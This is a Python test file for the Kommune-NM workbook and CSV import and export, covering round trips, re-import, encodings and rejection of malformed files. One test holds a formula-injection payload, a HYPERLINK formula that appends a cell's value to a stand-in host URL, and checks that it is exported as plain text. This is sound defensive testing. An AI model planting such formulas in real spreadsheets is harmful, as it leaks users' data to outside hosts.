"""The Kommune-NM workbook and CSV file: export → import → export gives the same bytes, a
second import of the same file changes nothing, every kind of bad file is refused with its
sheet, row and column and changes nothing, and text never goes out as a formula."""

from __future__ import annotations

import io
from datetime import date

import openpyxl
import pytest

from temaplan.benchmark import import_checks as im
from temaplan.benchmark import workbook as wb
from temaplan.benchmark.codes import code_problem, stored_history
from temaplan.benchmark.import_files import NOT_CSV
from temaplan.benchmark.importing import editions_import
from temaplan.benchmark.models import Edition, Ranking, Theme, ThemeRank
from temaplan.core.workbook import (
    COLUMN_MISSING,
    FILE_EMPTY,
    FORMULA,
    NOT_A_NUMBER,
    NOT_XLSX,
    REQUIRED,
    SHEET_MISSING,
    ImportRejected,
)
from temaplan.testing.database import changed_models, stored_rows
from temaplan.testing.workbooks import (
    NOT_A_WORKBOOK_CASES,
    E,
    cells,
    copy_row,
    data_types,
    delete_column,
    edited,
    put,
    remove,
)

R = wb.RANKINGS
ASKER_2018 = 2  # rows of the exported «Plasseringer» (header = 1), see the demo
BAERUM_2021 = 10
ASKER_2021 = 13


@pytest.fixture
def asker(asker_plan):
    return asker_plan.municipality


@pytest.fixture
def exported(asker) -> bytes:
    return wb.editions_workbook(asker)


def refused(asker, data: bytes, *, csv_file: bool = False) -> list:
    """The problems of a refused file, after checking that it changed nothing."""
    before = stored_rows()
    with pytest.raises(ImportRejected) as rejection:
        editions_import(municipality=asker, data=data, csv_file=csv_file)
    after = stored_rows()
    assert after == before, changed_models(before, after)
    return rejection.value.errors


def header(sheet: str, column: int, text: str):
    def edit(book):
        book[sheet].cell(row=1, column=column, value=text)

    return edit


def cell(sheet: str, row: int, column: int, value):
    def edit(book):
        book[sheet].cell(row=row, column=column, value=value)

    return edit


def append(sheet: str, values: list):
    return lambda book: book[sheet].append(values)


# --- Round trips ------------------------------------------------------------------------------


def test_export_import_export_gives_the_same_bytes(asker, exported):
    Edition.objects.filter(municipality=asker).delete()
    summary = editions_import(municipality=asker, data=exported)
    assert summary.sheets[wb.EDITIONS].created == 4
    assert summary.sheets[wb.RANKINGS].created == 20
    assert wb.editions_workbook(asker) == exported


def test_importing_the_same_file_twice_changes_nothing_the_second_time(asker, exported):
    changed = edited(exported, put(R, ASKER_2021, wb.RANK, 4), put(R, ASKER_2021, "Demografi", 90))
    first = editions_import(municipality=asker, data=changed)
    assert first.sheets[R].updated == 1
    before = stored_rows()
    second = editions_import(municipality=asker, data=changed)
    assert not second.changed
    assert stored_rows() == before  # no new versions, history rows or observations


def test_a_correction_changes_the_rank_and_the_theme_rank_with_a_new_version(asker, exported):
    ranking = Ranking.objects.get(
        municipality=asker, edition__year=2021, code="3025", data_year=2020
    )
    changed = edited(exported, put(R, ASKER_2021, wb.RANK, 4), put(R, ASKER_2021, "Demografi", 90))
    editions_import(municipality=asker, data=changed)
    ranking.refresh_from_db()
    assert (ranking.rank, ranking.version) == (4, 2)
    demografi = ThemeRank.objects.get(ranking=ranking, theme__key="demografi")
    assert demografi.rank == 90
    assert ranking.history.count() == 2


def test_a_new_edition_with_themes_parameters_and_values_comes_in_from_one_file(asker):
    data = edited(
        wb.template_workbook(),
        append(wb.EDITIONS, [2024, 2023, date(2024, 6, 1), 357, "NHO Kommune-NM 2024", None]),
        append(wb.THEMES, [2024, "naeringsliv", "Næringsliv", "Vekst i foretak\nNyetableringer"]),
        append(wb.THEMES, [2024, "arbeidsmarked", "Arbeidsmarked", None]),
        append(wb.THEMES, [2024, "demografi", "Demografi", None]),
        append(wb.THEMES, [2024, "kompetanse", "Kompetanse", None]),
        append(wb.THEMES, [2024, "kommuneokonomi", "Kommuneøkonomi", None]),
        append(R, [2024, None, "3203", "Asker", 7, 61.25, 5, 40, 100, 30, 12]),
        append(wb.VALUES, [2024, None, "3203", "Næringsliv", "Nyetableringer", 4.5]),
    )
    summary = editions_import(municipality=asker, data=data)
    assert summary.sheets[wb.THEMES].created == 5
    ranking = Ranking.objects.get(municipality=asker, edition__year=2024)
    assert (ranking.data_year, ranking.rank, str(ranking.score)) == (2023, 7, "61.2500")
    assert ranking.theme_ranks.count() == 5
    assert ranking.parameter_values.get().parameter.name == "Nyetableringer"
    assert not editions_import(municipality=asker, data=wb.editions_workbook(asker)).changed


def test_the_template_has_the_guide_and_the_five_themes_and_imports_as_nothing(asker):
    data = wb.template_workbook()
    book = cells(data)
    assert list(book) == [*wb.SHEETS, "Veiledning"]
    assert book[R][0][-5:] == wb.STANDARD_THEMES
    assert not editions_import(municipality=asker, data=data).changed


# --- Text never becomes a formula ---------------------------------------------------------------


def test_text_that_looks_like_a_formula_goes_out_as_text_and_comes_back_the_same(asker):
    edition = Edition.objects.get(municipality=asker, year=2021)
    evil = '=HYPERLINK("http://x.example/"&A2,"Klikk")'
    Edition.objects.filter(pk=edition.pk).update(source=evil)
    Ranking.objects.filter(edition=edition, code="3025").update(name="@SUM(1+1)")
    data = wb.editions_workbook(asker)
    assert data_types(data, wb.EDITIONS)[4][4] == "s"
    book = openpyxl.load_workbook(io.BytesIO(data))
    assert book[wb.EDITIONS].cell(row=5, column=5).value == evil
    text = wb.editions_csv(asker).decode("utf-8-sig")
    assert "'@SUM(1+1)" in text
    assert not editions_import(municipality=asker, data=data).changed
    assert not editions_import(municipality=asker, data=text.encode(), csv_file=True).changed


# --- Bad files ----------------------------------------------------------------------------------


def no_such_code(code: str, year: int) -> str:
    return code_problem(code, date(year, 6, 1), stored_history()) or ""


BAD_FILES = [
    pytest.param(
        [copy_row(R, ASKER_2018)],
        E(
            R,
            22,
            wb.CODE,
            im.DUPLICATE_MUNICIPALITY.format(code="0220", first=2, year=2018, data_year=2017),
        ),
        id="a duplicate municipality",
    ),
    pytest.param(
        [put(R, ASKER_2018, wb.RANK, 0)],
        E(R, 2, wb.RANK, im.RANK_RANGE.format(rank=0, ranked=422, year=2018)),
        id="rank 0",
    ),
    pytest.param(
        [put(R, BAERUM_2021, wb.RANK, 357)],
        E(R, 10, wb.RANK, im.RANK_RANGE.format(rank=357, ranked=356, year=2021)),
        id="a rank above the municipalities ranked",
    ),
    pytest.param(
        [put(R, BAERUM_2021, "Demografi", 0)],
        E(R, 10, "Demografi", im.RANK_RANGE.format(rank=0, ranked=356, year=2021)),
        id="a theme rank out of range",
    ),
    pytest.param(
        [put(R, BAERUM_2021, wb.CODE, "0220")],
        lambda: E(R, 10, wb.CODE, no_such_code("0220", 2021)),
        id="0220 in the 2021 edition",
    ),
    pytest.param(
        [
            append(wb.EDITIONS, [2024, 2023, None, 357, "NHO", None]),
            append(R, [2024, 2023, "3025", "Asker", 4]),
        ],
        lambda: E(R, 22, wb.CODE, no_such_code("3025", 2024)),
        id="3025 in a 2024 edition",
    ),
    pytest.param(
        [put(R, BAERUM_2021, wb.CODE, "32")],
        lambda: E(R, 10, wb.CODE, no_such_code("32", 2021)),
        id="a municipality number without four digits",
    ),
    pytest.param(
        [put(R, BAERUM_2021, "Demografi", None)],
        E(R, 10, "Demografi", im.THEME_RANK_MISSING.format(year=2021)),
        id="a missing theme rank",
    ),
    pytest.param(
        [delete_column(R, "Demografi")],
        E(R, 10, "Demografi", im.THEME_COLUMN_MISSING.format(theme="Demografi", year=2021)),
        id="a missing theme column",
    ),
    pytest.param(
        [put(R, ASKER_2018, wb.RANK, "tolv")],
        E(R, 2, wb.RANK, NOT_A_NUMBER.format(text="tolv")),
        id="text in a rank cell",
    ),
    pytest.param(
        [put(R, ASKER_2018, wb.RANK, "=1+11")],
        E(R, 2, wb.RANK, FORMULA),
        id="a formula in a rank cell",
    ),
    pytest.param(
        [put(R, ASKER_2018, wb.RANK, None)],
        E(R, 2, wb.RANK, REQUIRED),
        id="an empty rank",
    ),
    pytest.param(
        [remove(wb.THEMES)],
        E(
            wb.THEMES,
            None,
            None,
            SHEET_MISSING.format(
                found="«Utgaver», «Plasseringer», «Parameterverdier», «Veiledning»"
            ),
        ),
        id="a missing sheet",
    ),
    pytest.param(
        [delete_column(R, wb.RANK)], E(R, 1, wb.RANK, COLUMN_MISSING), id="a missing column"
    ),
    pytest.param(
        [put(R, ASKER_2018, wb.EDITION, 2017)],
        E(R, 2, wb.EDITION, im.UNKNOWN_EDITION.format(year=2017)),
        id="an edition without its «Utgaver» row",
    ),
    pytest.param(
        [put(R, ASKER_2018, wb.DATA_YEAR, 2018)],
        E(R, 2, wb.DATA_YEAR, im.DATA_YEAR_AFTER.format(data_year=2018, edition_data_year=2017)),
        id="a data year after the edition's",
    ),
    pytest.param(
        [put(R, ASKER_2018, wb.SCORE, "mye")],
        E(R, 2, wb.SCORE, NOT_A_NUMBER.format(text="mye")),
        id="a score that is no number",
    ),
    pytest.param(
        [copy_row(wb.EDITIONS, 2)],
        E(wb.EDITIONS, 6, wb.EDITION, im.DUPLICATE_EDITION.format(year=2018, first=2)),
        id="a duplicate edition row",
    ),
    pytest.param(
        [header(R, 12, "Innovasjon"), cell(R, BAERUM_2021, 12, 4)],
        E(R, 10, "Innovasjon", im.THEME_NOT_IN_EDITION.format(year=2021, theme="Innovasjon")),
        id="a theme rank for an unknown theme",
    ),
    pytest.param(
        [put(wb.EDITIONS, 5, wb.RANKED, 12)],
        E(R, 15, wb.RANK, im.RANK_RANGE.format(rank=14, ranked=12, year=2021)),
        id="fewer municipalities ranked than the ranks in the file",
    ),
    pytest.param(
        [put(wb.EDITIONS, 5, wb.DATA_YEAR, 2022)],
        E(wb.EDITIONS, 5, wb.DATA_YEAR, "Dataåret kan ikke være etter utgaveåret (2021)."),
        id="an edition whose data year is after its year",
    ),
    pytest.param(
        [append(wb.THEMES, [2021, "Næringsliv!", "Nytt", None])],
        E(wb.THEMES, 7, wb.KEY, im.BAD_THEME_KEY.format(text="Næringsliv!")),
        id="a bad theme key",
    ),
    pytest.param(
        [append(wb.VALUES, [2021, None, "3025", "Demografi", "Folkevekst", 1])],
        E(
            wb.VALUES,
            2,
            wb.PARAMETER,
            im.UNKNOWN_PARAMETER.format(theme="Demografi", year=2021, parameter="Folkevekst"),
        ),
        id="a value for an unknown parameter",
    ),
    pytest.param(
        [append(wb.VALUES, [2021, None, "3025", "Helse", "Leger", 1])],
        E(wb.VALUES, 2, wb.THEME, im.UNKNOWN_THEME.format(year=2021, theme="Helse")),
        id="a value for an unknown theme",
    ),
]


@pytest.mark.parametrize("edits, problem", BAD_FILES)
def test_a_bad_file_is_refused_with_sheet_row_and_column_and_changes_nothing(
    asker, exported, edits, problem
):
    errors = refused(asker, edited(exported, *edits))
    problem = problem() if callable(problem) else problem  # messages that read the code history
    assert problem in errors, [str(e) for e in errors]


@pytest.mark.parametrize("data, problems", NOT_A_WORKBOOK_CASES)
def test_a_file_that_is_no_workbook_is_refused(asker, data, problems):
    assert refused(asker, data) == problems


def test_an_empty_file_and_a_text_file_are_refused_with_their_own_message(asker):
    assert refused(asker, b"") == [E(None, None, None, FILE_EMPTY)]
    assert refused(asker, b"hei") == [E(None, None, None, NOT_XLSX)]


def test_every_error_of_a_file_is_listed_not_only_the_first(asker, exported):
    data = edited(exported, put(R, 2, wb.RANK, 0), put(R, 3, wb.SCORE, "x"), copy_row(R, 4))
    errors = refused(asker, data)
    assert [(e.row, e.column) for e in errors] == [(2, wb.RANK), (3, wb.SCORE), (22, wb.CODE)]


def test_a_message_names_sheet_row_and_column_in_norwegian(asker, exported):
    (error,) = refused(asker, edited(exported, put(R, 2, wb.RANK, 0)))
    assert str(error) == (
        "Ark «Plasseringer», rad 2, kolonne «Plassering»: 0 er ikke en plassering fra 1 til "
        "422 (antall kommuner i utgave 2018)"
    )


# --- CSV ----------------------------------------------------------------------------------------


def test_the_csv_file_round_trips_in_utf8_with_and_without_bom(asker):
    data = wb.editions_csv(asker)
    assert data.startswith(b"\xef\xbb\xbf")
    Ranking.objects.filter(municipality=asker).delete()
    summary = editions_import(municipality=asker, data=data[3:], csv_file=True)
    assert summary.sheets[R].created == 20
    assert wb.editions_csv(asker) == data
    assert ThemeRank.objects.filter(municipality=asker).count() == 30


def test_a_csv_file_in_iso_8859_1_is_read(asker):
    text = wb.editions_csv(asker).decode("utf-8-sig").replace(";13;", ";5;", 1)
    summary = editions_import(municipality=asker, data=text.encode("iso-8859-1"), csv_file=True)
    assert summary.sheets[R].updated == 1
    assert Ranking.objects.get(municipality=asker, code="3025", edition__year=2020).rank == 5


def test_a_csv_file_with_a_decimal_comma_score_is_read(asker):
    lines = ["Utgave;Dataår;Kommunenummer;Kommune;Plassering;Poeng", "2020;2019;3025;Asker;13;61,5"]
    editions_import(municipality=asker, data="\n".join(lines).encode(), csv_file=True)
    assert (
        str(Ranking.objects.get(municipality=asker, code="3025", edition__year=2020).score)
        == "61.5000"
    )


CSV_HEADER = "Utgave;Dataår;Kommunenummer;Kommune;Plassering;Poeng;Næringsliv"


@pytest.mark.parametrize(
    "text, problem",
    [
        pytest.param(
            CSV_HEADER + "\n2017;;0220;Asker;3;;",
            E(None, 2, wb.EDITION, im.UNKNOWN_EDITION_CSV.format(year=2017)),
            id="an edition not stored",
        ),
        pytest.param(
            CSV_HEADER + "\n2021;;3025;Asker;elleve;;",
            E(None, 2, wb.RANK, NOT_A_NUMBER.format(text="elleve")),
            id="text in a rank",
        ),
        pytest.param(
            "Utgave;Kommunenummer;Kommune;Poeng\n2021;3025;Asker;1",
            E(None, 1, wb.RANK, COLUMN_MISSING),
            id="a missing column",
        ),
        pytest.param(
            CSV_HEADER + "\n2021;;3025;Asker;11;;6",
            E(
                None,
                2,
                "Arbeidsmarked",
                im.THEME_COLUMN_MISSING.format(theme="Arbeidsmarked", year=2021),
            ),
            id="a theme rank without the other themes",
        ),
    ],
)
def test_a_bad_csv_file_is_refused_by_row_and_column_and_changes_nothing(asker, text, problem):
    errors = refused(asker, text.encode(), csv_file=True)
    assert problem in errors, [str(e) for e in errors]


def test_a_binary_file_is_not_taken_for_csv(asker):
    assert refused(asker, b"\x00\x01\x02", csv_file=True) == [E(None, None, None, NOT_CSV)]
    assert refused(asker, b"", csv_file=True) == [E(None, None, None, FILE_EMPTY)]


def test_the_stored_themes_are_kept_when_a_file_leaves_them_out(asker, exported):
    data = edited(exported, lambda book: book[wb.THEMES].delete_rows(2, 5))
    assert not editions_import(municipality=asker, data=data).changed
    assert Theme.objects.filter(municipality=asker).count() == 5
